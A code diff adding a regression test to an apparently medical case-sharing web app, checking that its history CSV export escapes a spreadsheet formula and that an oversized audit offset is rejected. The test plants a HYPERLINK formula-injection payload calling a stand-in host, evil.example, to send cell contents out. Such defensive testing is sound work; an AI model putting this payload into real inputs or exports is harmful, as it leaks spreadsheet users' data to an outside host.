@@ -118,3 +118,16 @@ def test_a_shared_patient_id_does_not_show_another_hospitals_events(web: WebServ
     assert all(TWIN_STUDY not in str(r) and "Другой" not in str(r) for r in city)
     csv_text = web.login("sidorov").get("/api/audit", params={"format": "csv"}).text
     assert TWIN_STUDY not in csv_text and "Другой" not in csv_text
+
+
+def test_the_history_csv_carries_no_formula(web: WebServer) -> None:
+    referring = web.login("ivanova")
+    created = _post(referring, "/api/cases", {
+        "question": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+        "study_uids": [CITY_STUDY], "target_institution": "regional-center"})
+    assert created.status_code == 200, created.text
+    text = web.login("sidorov").get("/api/history/cases", params={"format": "csv"}).text
+    [row] = [r for r in csv.DictReader(io.StringIO(text)) if r["id"] == str(created.json()["id"])]
+    assert row["question"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"
+    bad_offset = web.login("sidorov").get("/api/audit", params={"offset": str(2**70)})
+    assert bad_offset.status_code == 400
